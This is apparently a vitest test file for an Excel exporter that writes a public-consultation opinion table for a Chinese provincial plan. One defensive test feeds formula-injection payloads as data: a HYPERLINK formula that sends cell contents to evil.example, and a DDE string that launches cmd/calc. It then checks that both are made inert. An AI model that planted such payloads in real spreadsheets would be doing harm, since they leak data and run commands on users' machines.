import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { opinionTableXlsx, SHEET_NAME } from './export-xlsx.js';
import { EXPECTED_GROUPS, META, ROWS } from './opinion-table.fixtures.js';
import { OPINION_COLUMNS, type OpinionRow } from './opinion-table.js';
import { inertText } from './xlsx.js';
import { readZipText } from './zip.test-support.js';

async function readBack(file: Uint8Array): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(file.buffer.slice(file.byteOffset, file.byteOffset + file.byteLength) as ArrayBuffer);
  const sheet = workbook.getWorksheet(SHEET_NAME);
  if (!sheet) throw new Error(`no sheet named ${SHEET_NAME}`);
  return sheet;
}

/** The columns the department's form has, spelt out so that a column lost or moved fails here. */
const COLUMNS = ['序号', '章节条款', '原文', '意见内容', '提出单位（人）', '来源', '采纳情况', '理由说明', '落实情况'];

const values = (row: ExcelJS.Row) => Array.from({ length: COLUMNS.length }, (_, i) => row.getCell(i + 1).value ?? '');

/**
 * The fixture rows with 落实情况 for the three adopted opinions (one over two lines), absent for the
 * rejected one and blank for the pending one.
 */
const IMPLEMENTATION = [
  '已落实（第 2 版第一章表 1）',
  '部分落实\n受灾人口数据见第 2 版',
  '已落实（第 2 版）',
  undefined,
  '',
];
const WITH_IMPLEMENTATION: OpinionRow[] = ROWS.map((row, index) => {
  const implementation = IMPLEMENTATION[index];
  return implementation === undefined ? row : { ...row, implementation };
});

describe('opinionTableXlsx', () => {
  it('writes the title, the stage line and the nine columns in order on a sheet named 意见采纳情况表', async () => {
    const sheet = await readBack(await opinionTableXlsx(META, ROWS));
    expect(sheet.getCell('A1').value).toBe('《浙江省应急管理“十四五”规划》意见采纳情况表');
    // The title and the stage line span exactly the table's width, A to I.
    for (const row of [1, 2]) {
      expect(sheet.getCell(`I${row}`).master.address).toBe(`A${row}`);
      expect(sheet.getCell(`J${row}`).isMerged).toBe(false);
    }
    expect(sheet.getCell('A2').value).toBe('征求意见稿 · 第 1 版 · 生成于 2020-11-16');
    expect(values(sheet.getRow(3))).toEqual(COLUMNS);
    expect(OPINION_COLUMNS).toEqual(COLUMNS);
    expect(sheet.actualColumnCount).toBe(9);
  });

  it('groups rows by chapter, whole-draft opinions first, numbering on across groups', async () => {
    const sheet = await readBack(await opinionTableXlsx(META, ROWS));
    const groups: { chapter: string; numbers: number[] }[] = [];
    sheet.eachRow((row, rowNumber) => {
      if (rowNumber <= 3) return;
      const first = row.getCell(1).value;
      if (typeof first === 'string') {
        expect(row.getCell(9).master.address).toBe(`A${rowNumber}`);
        expect(row.getCell(10).isMerged).toBe(false);
        groups.push({ chapter: first, numbers: [] });
      } else {
        expect(row.outlineLevel).toBe(1);
        groups.at(-1)?.numbers.push(first as number);
      }
    });
    expect(groups).toEqual(EXPECTED_GROUPS);
    expect(values(sheet.getRow(5))).toEqual([
      1,
      '全文',
      '',
      '建议全文统一“应急管理部门”的称谓。',
      '省安科院 专家组',
      '专家评审',
      '采纳',
      '已统一。',
      '',
    ]);
    expect(values(sheet.getRow(8))).toEqual([
      3,
      '二、面临形势',
      '超强台风“利奇马”',
      '台风影响的表述过于笼统，\n建议量化直接经济损失。',
      '省人大代表 王某',
      '会议',
      '部分采纳',
      '补充受灾人口数据；经济损失以统计部门公布为准。',
      '',
    ]);
  });

  it('freezes the panes below the header, filters on the header row, wraps text and sizes the columns', async () => {
    const sheet = await readBack(await opinionTableXlsx(META, ROWS));
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 });
    expect(sheet.autoFilter).toBe(`A3:I${sheet.rowCount}`);
    expect(sheet.getCell('D5').alignment).toMatchObject({ wrapText: true });
    expect(sheet.getCell('I5').alignment).toMatchObject({ wrapText: true });
    const widths = sheet.columns.map((column) => column.width ?? 0);
    expect(widths).toHaveLength(9);
    // 落实情况 holds a phrase such as 已落实（第 2 版）: at least as wide as 章节条款 and 来源.
    expect(widths[8]).toBeGreaterThanOrEqual(Math.max(widths[1] ?? 0, widths[5] ?? 0));
    const widest = [...widths].sort((a, b) => b - a).slice(0, 2);
    expect(widest).toEqual([widths[3], widths[2]]);
    expect(sheet.pageSetup).toMatchObject({ orientation: 'landscape', paperSize: 9 });
  });

  it("puts each opinion's 落实情况 in column I, and leaves it empty for opinions without one", async () => {
    const sheet = await readBack(await opinionTableXlsx(META, WITH_IMPLEMENTATION));
    // Rows 5 (序号 1), 7–9 (序号 2–4) and 11 (序号 5); rows 4, 6 and 10 are the chapters.
    const opinions = [5, 7, 8, 9, 11].map((row) => values(sheet.getRow(row)));
    expect(opinions.map((cells) => [cells[0], cells[6], cells[7], cells[8]])).toEqual([
      [1, '采纳', '已统一。', '已落实（第 2 版）'],
      [2, '采纳', '已在第一章增加指标完成情况表。', '已落实（第 2 版第一章表 1）'],
      [3, '部分采纳', '补充受灾人口数据；经济损失以统计部门公布为准。', '部分落实\n受灾人口数据见第 2 版'],
      [4, '待处理', '', ''],
      [5, '不采纳', '选址由专项规划研究确定。', ''],
    ]);
    expect(sheet.getCell('J5').value).toBeNull();
  });

  it('centres 序号, 来源 and 采纳情况 and sets the text columns, 落实情况 among them, flush left', async () => {
    const sheet = await readBack(await opinionTableXlsx(META, WITH_IMPLEMENTATION));
    const alignments = Array.from({ length: 9 }, (_, i) => sheet.getRow(7).getCell(i + 1).alignment?.horizontal);
    expect(alignments).toEqual(['center', 'left', 'left', 'left', 'left', 'center', 'center', 'left', 'left']);
    expect(sheet.getCell('I7').border).toMatchObject({ left: { style: 'thin' }, right: { style: 'thin' } });
  });

  it('says so when a round brought no opinions', async () => {
    const sheet = await readBack(await opinionTableXlsx(META, []));
    expect(values(sheet.getRow(3))).toEqual(COLUMNS);
    expect(sheet.getCell('A4').value).toBe('本轮未收到意见');
  });

  it('drops characters XML cannot carry, so a pasted control character does not corrupt the file', async () => {
    const pasted = { ...ROWS[0], chapter: '第一章', opinion: '建议\u0007补充\ud800指标。' } as (typeof ROWS)[number];
    const sheet = await readBack(await opinionTableXlsx(META, [pasted]));
    expect(sheet.getCell('D5').value).toBe('建议补充指标。');
  });
});

describe('formula-looking text in the workbook', () => {
  it('makes text that starts like a formula inert: a text cell with an apostrophe, never a formula', async () => {
    const hostile = {
      ...ROWS[0],
      chapter: '第一章',
      opinion: '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看依据")',
      author: "@SUM(1+1)*cmd|' /C calc'!A0",
      quote: '+86 571 8888 8888',
      reason: '-2+3',
    } as (typeof ROWS)[number];
    const file = await opinionTableXlsx({ ...META, planTitle: '=1+1' }, [hostile]);
    const sheet = await readBack(file);
    const cells = [sheet.getCell('D5'), sheet.getCell('E5'), sheet.getCell('C5'), sheet.getCell('H5')];
    expect(cells.map((cell) => cell.type)).toEqual(Array(4).fill(ExcelJS.ValueType.String));
    expect(cells.map((cell) => cell.value)).toEqual([
      '\'=HYPERLINK("http://evil.example/?leak="&A1,"点击查看依据")',
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'+86 571 8888 8888",
      "'-2+3",
    ]);
    expect(sheet.getCell('A1').value).toBe('《=1+1》意见采纳情况表');
    // Nothing in the sheet's XML is a formula.
    expect(readZipText(file, 'xl/worksheets/sheet1.xml')).not.toMatch(/<f[ >]/);
  });

  it('leaves ordinary text, and numbers, as they were', () => {
    expect(inertText('建议补充指标。')).toBe('建议补充指标。');
    expect(inertText('“十四五”')).toBe('“十四五”');
    expect(inertText('=')).toBe("'=");
    expect(inertText('\t=1')).toBe("'\t=1");
  });
});
